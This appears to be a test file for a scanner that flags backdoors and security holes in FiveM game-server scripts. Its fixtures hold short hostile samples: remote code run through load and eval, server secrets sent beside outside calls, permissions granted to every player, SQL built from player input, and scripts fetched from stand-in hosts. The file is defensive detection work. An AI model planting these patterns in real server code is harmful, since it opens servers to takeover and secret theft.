import { expect, test } from 'vitest'

import { libraryHosts } from './knowledge/hosts.ts'
import type { CodeFile } from './program.ts'
import { brief, client, file, page, script } from './severity.fixture.ts'

const screen = "exports['screenshot-basic']:requestScreenshotUpload(url, 'files', print)"
const secret = "GetConvar('rcon_password', '')"
const answer = `local code = lib.callback.await('code')\nload(code)()`
const log = (
  key: string,
) => `local body = json.encode({ license = GetPlayerIdentifierByType(source, 'license') })
PerformHttpRequest('https://api.fivemanage.com/api/logs', print, 'POST', body, { Authorization = ${key} })`
const besideCall = (setting: string) => `connect(GetConvar('${setting}', ''))
fetch('https://api.example.com/releases').then(show)`
const words = ['if', 'for', 'text', 'html', 'on', 'bind', 'model', 'slot', 'once']
const template = `let code = ''
${words.map((name) => `if (kind === '${name}') code = '${name}'`).join('\n')}
addEventListener('message', ({ data }) => {
  if (data.code) code = data.code
  return new Function('with(this){return ' + code + '}')
})`
const give = (check: string) => `RegisterNetEvent('give', function(item)
  ${check}
  exports['qb-inventory']:AddItem(source, item, 1)
end)`
const ranks = (list: string) => `local ranks = ${list}
local id = 'steam:11000010a2f3c4d'
local function rankOf(one) return ranks[one] end
rankOf(id)
rankOf(GetPlayerIdentifierByType(source, 'steam'))`
const opens = (mode: string) =>
  file(`RegisterNetEvent('save', function(name)\n  local file = io.open(name, '${mode}')\nend)`)
const writes = (name: string, resource: string) =>
  file(`io.open('resources/${name}/data/times.json', 'w')`, { resource })
const functions = Array.from({ length: 40 }, (_, index) => `() => ${index}, 'text ${index}'`).join(', ')
const picks = (list: string) =>
  file(`onNet('a', (text, at) => {\n  const list = [text, ${list}]\n  eval(list[at])\n})`, script)

test.each<[name: string, file: CodeFile, findings: string[]]>([
  [
    'exclusive or of bytes beside characters',
    file(`local bytes = { text:byte(1), seed ~ 7 }\nprint(string.char(bytes[i]))`),
    ['low decoder 2'],
  ],
  ['exclusive or of characters', file(`print(string.char(text:byte(i) ~ seed))`), ['low decoder 1']],
  ['the variables of a caller', file(`print(debug.getlocal(2, 1))`), ['low global-by-text 1']],
  ['the upvalues of a function', file(`print(debug.getupvalue(pay, 1))`), ['medium global-by-text 1']],
  [
    'a right that is passed on',
    file(`function give(player, group) player.setGroup(group) end`),
    ['low grants-rights 1'],
  ],
  [
    'a right beside a fixed identifier',
    file(`local id = 'steam:11000010a2f3c4d'\nfunction give(player, group) player.setGroup(group) end`),
    ['medium grants-rights 2'],
  ],
  [
    'a right that is decoded',
    file(`function give(player, text) player.setGroup(string.char(text:byte(1) - 3)) end`),
    ['low decoder 1', 'medium grants-rights 1'],
  ],
  [
    'a right of all players that is passed on',
    file(`function open(ace) ExecuteCommand('add_ace builtin.everyone ' .. ace .. ' allow') end`),
    ['medium grants-rights 1'],
  ],
  [
    'a right of all players',
    file(`ExecuteCommand('add_ace builtin.everyone command allow')`),
    ['high grants-rights 1'],
  ],
  ['a shift of characters', file(`print(string.char(text:byte(i) + 3))`), ['low decoder 1']],
  ['a file that is opened to be written', opens('a+'), ['medium writes-code 2']],
  ['a file that is opened to be read', opens('r'), ['medium sends-data 2']],
  [
    'a file whose lines are read as a whole',
    file(
      `RegisterNetEvent('save', function(name)\n  for text in io.lines(name, 'a') do print(text) end\nend)`,
    ),
    ['medium sends-data 2'],
  ],
  ['a file that is opened to be written only', opens('w'), ['medium writes-code 2']],
  [
    'the screen, to a host of an event',
    file(`RegisterNetEvent('a', function(url) ${screen} end)`, client),
    ['medium sends-data 1'],
  ],
  [
    'the screen, to a host that the server answers',
    file(`QBCore.Functions.TriggerCallback('a', function(url) ${screen} end)`, client),
    ['low sends-data 1'],
  ],
  [
    'a secret of the server, to any player',
    file(`RegisterNetEvent('a', function() TriggerClientEvent('b', source, ${secret}) end)`),
    ['medium sends-data 1'],
  ],
  [
    'a secret of the server, to those with a permission',
    file(
      `RegisterNetEvent('a', function()\n  if not hasPermission(source) then return end\n  TriggerClientEvent('b', source, ${secret})\nend)`,
    ),
    ['low sends-data 3'],
  ],
  [
    'a file that a player names, which others share',
    file(
      `local function read(name) io.open(name, 'r') end\nRegisterNetEvent('save', function(name) read(name) end)`,
    ),
    ['medium sends-data 1'],
  ],
  [
    'a file that only other resources name',
    file(`AddEventHandler('maps:add', function(resource, name) LoadResourceFile(resource, name) end)`),
    ['low sends-data 1'],
  ],
  [
    'what another resource gives, as code',
    file(`exports('render', function(text) return load(text)() end)`),
    ['medium runs-text-from-outside 1'],
  ],
  [
    'a query of another function, with a part of a player',
    file(`RegisterNetEvent('a', function(name) MySQL.query(name) end)`),
    ['high runs-text-from-outside 1'],
  ],
  [
    'a constant query or one of a player',
    file(`RegisterNetEvent('a', function(name)
  local query = 'SELECT 1'
  if name ~= '' then query = name end
  MySQL.query(query)
end)`),
    ['high runs-text-from-outside 4'],
  ],
  [
    'one of many queries, with a part of a player',
    file(`local function ask(query, values) return MySQL.query(query, values) end
${words.map((name) => `ask('SELECT 1 FROM ${name}', id)`).join('\n')}
RegisterNetEvent('a', function(name) ask(name, id) end)`),
    ['high runs-text-from-outside 1'],
  ],
  [
    'a timer of the server with a member of an object',
    file(`const settings = read(GetConvar('a', ''))\nsetInterval(settings.send, 500)`, script),
    [],
  ],
  ['the answer of a client, as code', file(answer), ['high runs-text-from-outside 2']],
  ['the answer of the server, as code', file(answer, client), ['medium runs-text-from-outside 2']],
  [
    'a log, with a key of the settings',
    file(log(`GetConvar('LOGS_API_KEY', '')`)),
    ['low secret-and-http 2'],
  ],
  ['a log, with a key of the script', file(log(`'Bearer 5f3a9c01d2'`)), ['medium sends-data 2']],
  [
    'the address of the database beside a call of another host',
    file(besideCall('mysql_connection_string'), script),
    ['low secret-and-http 1'],
  ],
  [
    'the password of the console beside a call of another host',
    file(besideCall('rcon_password'), script),
    ['medium secret-and-http 1'],
  ],
  ['a template of a page', file(template, page), ['low runs-text-from-outside 13']],
  [
    'a message of a page, as code',
    file(`addEventListener('message', ({ data }) => new Function('return ' + data.code))`, page),
    ['medium runs-text-from-outside 1'],
  ],
  ['a check of what a player has', file(give(`if not HasAttachments(item) then return end`)), []],
  [
    'a check of the items of a player',
    file(give(`if not player.PlayerData.items[item] then return end`)),
    [],
  ],
  [
    'a check of something else',
    file(give(`if not Stations[item] then return end`)),
    ['medium open-to-players 3'],
  ],
  [
    'a balance that is stored as a text',
    file(`RegisterNetEvent('withdraw', function(amount)
  local rows = MySQL.query.await('SELECT amount FROM savings WHERE id = ?', { source })
  local left = tonumber(rows[1].amount)
  if left >= amount then
    left = left - amount
    Player.Functions.AddMoney('bank', amount)
    MySQL.update('UPDATE savings SET amount = ?', { left }, function() print(left) end)
  end
end)`),
    [],
  ],
  [
    'an amount that is compared with itself',
    file(`RegisterNetEvent('withdraw', function(amount)
  local left = tonumber(amount)
  if left >= amount then Player.Functions.AddMoney('bank', amount) end
end)`),
    ['medium open-to-players 3'],
  ],
  ['a player who is only asked for', file(ranks('{ other = 1 }')), []],
  ['a player in a list', file(ranks(`{ ['steam:11000010a2f3c4d'] = 1 }`)), ['medium fixed-player 3']],
  ['a file of another resource', writes('garage', 'own'), ['medium writes-other-resource 1']],
  ['a file of a resource that may be the own one', writes('garage', ''), ['low writes-other-resource 1']],
  ['a file of a well-known resource', writes('qb-core', ''), ['medium writes-other-resource 1']],
  ['a file of a resource of the server', writes('chat', ''), ['high writes-other-resource 1']],
  ['code that may be anything', picks(functions), ['medium runs-text-from-outside 3']],
  ['code that may be one of two texts', picks(`'text'`), ['high runs-text-from-outside 3']],
])('%s', (_, one, findings) => {
  expect(brief(one)).toEqual(findings)
})

const element = (host: string) => file(`$.getScript('https://${host}/library.js')`, page)

test.each([...libraryHosts])('a library from %s is a low finding', (host) => {
  expect(brief(element(host))).toEqual(['low runs-downloaded-code 1'])
})

test.each([...libraryHosts])('a host whose name contains %s is none of libraries', (host) => {
  for (const other of [`a${host}`, `a.${host}`, `${host}.example`, host.replace('.', '-')])
    expect(brief(element(other))).toEqual(['medium runs-downloaded-code 1'])
})

test.each([
  ['https://unpkg.com/vue@3/dist/vue.global.js', 'low'],
  ['//cdn.jsdelivr.net/npm/@popperjs/core@2.11.8', 'low'],
  ['https://unpkg.com/vue-helper-a/a.js', 'medium'],
  ['https://unpkg.com/vue/../helper-a/a.js', 'medium'],
  ['https://cdn.jsdelivr.net/gh/someone/vue/a.js', 'medium'],
  ['https://cdn.jsdelivr.net/combine/npm/vue,npm/helper-a', 'medium'],
  ['https://code.jquery.com@a.example/a.js', 'medium'],
])('%s, where anyone can publish, is a %s finding', (url, severity) => {
  expect(brief(file(`$.getScript('${url}')`, page))).toEqual([`${severity} runs-downloaded-code 1`])
})

test('a host of libraries does not hide another one', () => {
  const text = `let url = 'https://code.jquery.com/a.js'
if (isNew) url = 'https://a.example/a.js'
$.getScript(url)`

  expect(brief(file(text, page))).toEqual(['medium runs-downloaded-code 3'])
})
